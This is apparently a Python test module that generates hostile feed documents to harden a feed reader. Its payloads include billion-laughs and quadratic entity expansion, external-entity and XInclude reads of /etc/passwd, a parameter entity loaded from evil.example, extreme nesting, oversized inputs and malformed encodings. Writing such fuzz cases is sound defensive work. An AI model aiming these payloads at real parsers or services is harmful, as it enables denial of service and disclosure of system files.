"""Documents that were built to harm whoever reads them, made by code: none of them lies on a disk.

Each is a function from nothing to bytes, by its name. What they attack: expansion, quadratic time in the libraries that
documents pass through and in our own patterns, depth, numbers, encodings, and what comes back from reading them.
"""

import json
import random
from collections.abc import Callable, Iterator

Maker = Callable[[], bytes]
MAKERS: dict[str, Maker] = {}
HEAD = (
    '<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">'
    "<channel><title>T</title><link>https://blog.example/</link>"
)
TAIL = "</channel></rss>"
VERSION = "https://jsonfeed.org/version/1.1"


def hostile(maker: Maker) -> Maker:
    MAKERS[maker.__name__] = maker
    return maker


def rss(inside: str) -> bytes:
    return (HEAD + inside + TAIL).encode("utf-8", "surrogatepass")


def item(inside: str, number: int = 1) -> str:
    return f"<item><link>https://blog.example/{number}</link><title>A {number}</title>{inside}</item>"


def bodied(html: str) -> bytes:
    return rss(item(f"<description><![CDATA[{html}]]></description>"))


def feed(items: list[object], **more: object) -> bytes:
    return json.dumps({"version": VERSION, "title": "T", "items": items, **more}).encode("utf-8", "surrogatepass")


# Expansion


@hostile
def billion_laughs() -> bytes:
    lines = ['<!ENTITY l0 "lol">', *(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))]
    return f"<!DOCTYPE rss [{''.join(lines)}]><rss><channel><title>&l11;</title></channel></rss>".encode()


@hostile
def quadratic_entity() -> bytes:
    entity = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 60_000}">]>'
    return f'{entity}<rss version="2.0"><channel><title>{"&a;" * 7_000}</title></channel></rss>'.encode()


@hostile
def entities_in_utf_16() -> bytes:
    return quadratic_entity().decode().encode("utf-16")


@hostile
def entities_in_utf_7() -> bytes:
    text = billion_laughs().decode().replace("<", "+ADw-").replace(">", "+AD4-")
    return b'<?xml version="1.0" encoding="utf-7"?>' + text.encode()


@hostile
def external_entity() -> bytes:
    return b'<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel>&a;</channel></rss>'


@hostile
def parameter_entity() -> bytes:
    entity = '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>'
    return (entity + HEAD.split("?>")[1] + item("") + TAIL).encode()


@hostile
def external_subset() -> bytes:
    return ('<!DOCTYPE rss SYSTEM "file:///dev/zero">' + HEAD.split("?>")[1] + item("") + TAIL).encode()


@hostile
def default_attributes() -> bytes:
    attributes = "".join(f"a{i} CDATA '{'x' * 200}' " for i in range(500))
    return f"<!DOCTYPE rss [<!ATTLIST item {attributes}>]>{HEAD.split('?>')[1]}{item('') * 400}{TAIL}".encode()


@hostile
def xinclude() -> bytes:
    included = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    return rss(item(f"<description>{included}</description>"))


@hostile
def stylesheet_and_schema() -> bytes:
    return ('<?xml-stylesheet href="file:///etc/passwd"?>' * 5_000 + HEAD.split("?>")[1] + item("") + TAIL).encode()


# Quadratic time in the libraries


@hostile
def newlines_before_the_root() -> bytes:
    return b"<?xml version='1.0'?>" + b"\n" * 1_000_000 + rss(item(""))[21:]


@hostile
def newlines_after_a_comment() -> bytes:
    return b"<!-- x -->" + b"\n" * 1_000_000 + b"<!DOCTYPE rss>" + rss(item(""))[21:]


@hostile
def newlines_and_no_root() -> bytes:
    return b"<!DOCTYPE rss" + b"\n" * 2_000_000


@hostile
def style_of_letters() -> bytes:
    return bodied(f'<p style="{"x" * 500_000}">a</p>')


@hostile
def style_of_urls() -> bytes:
    return bodied(f'<p style="{"url(" * 100_000}">a</p>')


@hostile
def author_of_dots() -> bytes:
    return rss(item(f"<author>{'a.' * 200_000}</author>"))


@hostile
def authors_of_medium_length() -> bytes:
    return rss("".join(item(f"<author>{'a.' * 450}</author>", i) for i in range(450)))


@hostile
def author_in_pieces() -> bytes:
    return rss(item(f"<dc:creator>{'a.<!-- -->' * 100_000}</dc:creator>"))


@hostile
def managing_editor() -> bytes:
    return rss(f"<managingEditor>{'a.' * 200_000}</managingEditor>{item('')}")


@hostile
def one_element_of_attributes() -> bytes:
    return rss("<x " + " ".join(f"a{i}=''" for i in range(200_000)) + "/>" + item(""))


@hostile
def many_elements_of_attributes() -> bytes:
    element = "<x " + " ".join(f"a{i}=''" for i in range(60)) + "/>"
    return rss(element * 8_000 + item(""))


@hostile
def long_attributes() -> bytes:
    return rss(item(f'<media:content medium="image" url="https://blog.example/{"x" * 3_000_000}"/>'))


@hostile
def unfinished_attribute() -> bytes:
    return rss(item(f'<x y="{"a=" * 1_000_000}'))


@hostile
def namespaces() -> bytes:
    declared = " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(16_000))
    return rss(f"<x {declared}/>" + item(""))


@hostile
def nested_namespaces() -> bytes:
    opened = "".join(f'<x xmlns:n{i}="urn:{i}">' for i in range(20_000))
    return rss(opened + "</x>" * 20_000 + item(""))


@hostile
def one_prefix_of_many_meanings() -> bytes:
    return rss("".join(f'<n:x xmlns:n="urn:{i}"/>' for i in range(100_000)) + item(""))


@hostile
def unclosed_comments() -> bytes:
    return bodied("<!--" * 250_000)


@hostile
def unclosed_comments_in_the_markup() -> bytes:
    return rss("<!--" * 500_000)


@hostile
def unclosed_instructions() -> bytes:
    return rss("<?x " * 500_000)


@hostile
def unclosed_sections() -> bytes:
    return rss(item("<![CDATA[" * 300_000))


@hostile
def unclosed_declarations() -> bytes:
    return rss(item("<!x " * 300_000))


@hostile
def stray_ampersands() -> bytes:
    return rss(item(f"<description>{'&' * 2_000_000}</description>"))


@hostile
def half_entities() -> bytes:
    return rss(item(f"<description>{'&amp' * 500_000}</description>"))


@hostile
def brackets() -> bytes:
    return rss(item(f"<description>{'<' * 1_000_000}</description>"))


@hostile
def brackets_in_a_body() -> bytes:
    return bodied("<" * 1_000_000)


@hostile
def half_tags_in_a_body() -> bytes:
    return bodied("<a " * 200_000)


@hostile
def quotes_in_a_tag() -> bytes:
    return bodied("<a " + '"' * 300_000)


@hostile
def attributes_in_a_body() -> bytes:
    return bodied(f"<p {' '.join(f'a{i}=1' for i in range(100_000))}>x</p>")


@hostile
def escaped_half_tags() -> bytes:
    return rss(item(f"<description>{'&lt;a ' * 300_000}</description>"))


# Depth


@hostile
def deep_markup() -> bytes:
    return rss("<x>" * 300_000 + "</x>" * 300_000 + item(""))


@hostile
def deep_and_unclosed_markup() -> bytes:
    return rss(item("<x>" * 300_000))


@hostile
def deep_body() -> bytes:
    return bodied("<div>" * 200_000)


@hostile
def deep_formatting() -> bytes:
    return bodied("<b><i><p>" * 60_000)


@hostile
def deep_tables() -> bytes:
    return bodied("<table><tr><td>" * 40_000)


@hostile
def deep_lists() -> bytes:
    return bodied("<ul><li>" * 60_000)


@hostile
def deep_xhtml() -> bytes:
    inside = '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">' + "<em>" * 100_000
    ending = "</em>" * 100_000 + "</div></content>"
    return f'<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id>{inside}{ending}</entry></feed>'.encode()


@hostile
def deep_xml_base() -> bytes:
    return rss("<x xml:base='a/'>" * 20_000 + "</x>" * 20_000 + item(""))


@hostile
def deep_json() -> bytes:
    return b'{"version":"' + VERSION.encode() + b'","items":' + b"[" * 2_000_000


@hostile
def deep_json_objects() -> bytes:
    return b'{"a":' * 1_000_000


# Numbers of things


@hostile
def items_without_end() -> bytes:
    return rss("".join(f"<item><guid>{i}</guid></item>" for i in range(250_000)))


@hostile
def items_that_never_end() -> bytes:
    return rss("<item><title>A" * 500_000)


@hostile
def empty_items() -> bytes:
    return rss("<item/>" * 1_000_000)


@hostile
def json_items_without_end() -> bytes:
    return b'{"version":"' + VERSION.encode() + b'","items":[' + b'{"id":1},' * 1_000_000 + b'{"id":2}]}'


@hostile
def json_numbers() -> bytes:
    return b'{"version":"' + VERSION.encode() + b'","items":[{"id":' + b"9" * 5_000_000 + b"}]}"


@hostile
def json_huge_floats() -> bytes:
    return b'{"version":"' + VERSION.encode() + b'","items":[{"id":1e99999,"title":"a"},{"id":-1e400},{"id":NaN}]}'


@hostile
def json_doubled_names() -> bytes:
    return b'{"version":"' + VERSION.encode() + b'","items":[{' + b'"id":"1",' * 900_000 + b'"id":"2"}]}'


@hostile
def images_without_end() -> bytes:
    return bodied("".join(f'<img src="https://blog.example/{i}.jpg" alt="{i}">' for i in range(100_000)))


@hostile
def players_without_end() -> bytes:
    return bodied('<iframe src="https://www.youtube.com/embed/a"></iframe>' * 50_000)


@hostile
def media_without_end() -> bytes:
    return rss(item('<media:content medium="image" url="https://blog.example/a.jpg"/>' * 120_000))


@hostile
def media_groups_in_groups() -> bytes:
    return rss(item("<media:group><media:description>x</media:description>" * 20_000 + "</media:group>" * 20_000))


@hostile
def tags_without_end() -> bytes:
    return rss(item("".join(f"<category>{i}</category>" for i in range(50_000))))


@hostile
def srcset_without_end() -> bytes:
    candidates = ", ".join(f"https://blog.example/{i}.jpg {i}w" for i in range(100_000))
    return bodied(f'<img src="https://blog.example/a.jpg" srcset="{candidates}">')


@hostile
def deleted_without_end() -> bytes:
    refs = "".join(f'<at:deleted-entry ref="urn:{i}" when="2026-01-01T00:00:00Z"/>' for i in range(60_000))
    space = 'xmlns="http://www.w3.org/2005/Atom" xmlns:at="http://purl.org/atompub/tombstones/1.0"'
    return f"<feed {space}>{refs}<entry><id>1</id></entry></feed>".encode()


# Sizes


@hostile
def one_endless_title() -> bytes:
    return rss(f"<item><title>{'x' * 9_900_000}</title></item>")


@hostile
def a_hundred_megabytes() -> bytes:
    return rss(f"<item><title>{'x' * 100_000_000}</title></item>")


@hostile
def a_preface_without_posts() -> bytes:
    return rss(f"<description>{'x ' * 4_000_000}</description>")


@hostile
def large_bodies() -> bytes:
    return rss("".join(item(f"<description>{'word ' * 3_800}</description>", i) for i in range(500)))


@hostile
def four_bytes_each() -> bytes:
    return rss("".join(item(f"<description>{'🦆' * 230_000}</description>", i) for i in range(10)))


@hostile
def endless_guids() -> bytes:
    return rss("".join(f"<item><guid>{i}{'g' * 90_000}</guid></item>" for i in range(100)))


@hostile
def wide_plain_text() -> bytes:
    return feed([{"id": "1", "content_text": "a\n\n" * 2_000_000}])


# Characters


@hostile
def surrogates() -> bytes:
    return feed(
        [{"id": "\ud800", "url": "https://blog.example/\udfff", "title": "\ud83d", "content_html": "\udc00<p>"}]
    )


@hostile
def nuls() -> bytes:
    return rss(item("<description>a\0b</description>")).replace(b" ", b" \0") * 20


@hostile
def mixed_encodings() -> bytes:
    return rss(item("<description>é")) + "ü</description>".encode("utf-16") + b"\xff\xfe\x00<item>\x80\x81"


@hostile
def combining_marks() -> bytes:
    return rss(item("<description>a" + "\u0301" * 1_000_000 + "</description>"))


@hostile
def joiners() -> bytes:
    return bodied("👩\u200d" * 150_000)


@hostile
def direction_marks() -> bytes:
    return rss(item("<description>" + "\u202e" * 1_000_000 + "x</description>"))


@hostile
def control_references() -> bytes:
    return rss(item("<description>" + "&#1;&#xFFFE;&#x110000;&#xD800;&#0;" * 100_000 + "</description>"))


@hostile
def noise() -> bytes:
    return random.Random(4).randbytes(2_000_000)


@hostile
def noise_after_a_beginning() -> bytes:
    return rss(item(""))[:-20] + random.Random(5).randbytes(1_000_000)


# Our own patterns


@hostile
def titles_of_half_tags() -> bytes:
    return rss(f"<item><title>{'&lt;a ' * 400_000}</title></item>")


@hostile
def titles_of_entities() -> bytes:
    return rss(f"<item><title>{'&amp;amp;amp;' * 300_000}</title></item>")


@hostile
def dates_of_digits() -> bytes:
    dates = ("1" * 300_000, "Mon, " * 60_000, "(" * 300_000, "0" * 90 + ":", "12:" * 100_000)
    return rss("".join(item(f"<pubDate>{date}</pubDate>", i) for i, date in enumerate(dates)))


@hostile
def invitations() -> bytes:
    return bodied("<p>" + "continue reading " * 40_000 + "</p>" + "\n(" * 100_000)


@hostile
def brackets_at_the_end() -> bytes:
    return bodied("words " + "[ … " * 100_000 + " " * 100_000)


@hostile
def credits_in_a_row() -> bytes:
    return bodied("<p>The post " * 100_000)


@hostile
def blank_lines() -> bytes:
    return rss(item("<description>a" + "\n \t" * 500_000 + "b</description>"))


@hostile
def addresses_of_dots() -> bytes:
    return rss(f"<item><link>https://blog.example/{'../' * 300_000}</link><title>A</title></item>" + item(""))


@hostile
def addresses_of_escapes() -> bytes:
    links = (
        f"https://blog.example/{'%25' * 1_300}",
        f"https://blog.example/?{'a&' * 2_000}",
        "https://" + "a." * 2_000,
    )
    return rss("".join(f"<item><link>{link}</link></item>" * 150 for link in links))


@hostile
def broken_hosts() -> bytes:
    links = (
        "http://[",
        "http://[::1",
        "https://:99999/",
        "https://a:b@c:d/",
        "https://\u2100.example/",
        "//",
        "https://xn--/",
    )
    return rss("".join(f"<item><link>{link}</link><guid>{link}</guid><title>A</title></item>" for link in links))


@hostile
def wishes_of_depth() -> bytes:
    wish = '<p:post xmlns:p="https://posseparty.com/2024/Feed" format="json"><![CDATA[' + "[" * 90_000 + "]]></p:post>"
    return f'<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id>{wish}</entry></feed>'.encode()


# feedparser's own exceptions, as fuzzing finds them


def stumbling() -> Iterator[tuple[str, str]]:
    """Elements over which feedparser raises, by name."""
    podlove = 'xmlns:psc="http://podlove.org/simple-chapters"'
    yield "chapters", f"<psc:chapters {podlove}><psc:chapter/></psc:chapters>"
    yield "chapters_elsewhere", f"<psc:chapters {podlove}><item/><psc:chapter start='00:00'/></psc:chapters>"
    yield "width", "<image><width>9999999999999999999999999999e9</width></image>"
    yield "georss", "<georss:line xmlns:georss='http://www.georss.org/georss'>1 2 3 x</georss:line>"
    yield "player", "<media:player/></media:player>"
    yield "rating", "<media:rating/><media:rating>a</media:rating><media:credit>"
    yield "charref", "<title>&#99999999999;</title>"
    yield "lastmod", "<channel lastmod='x'/>"
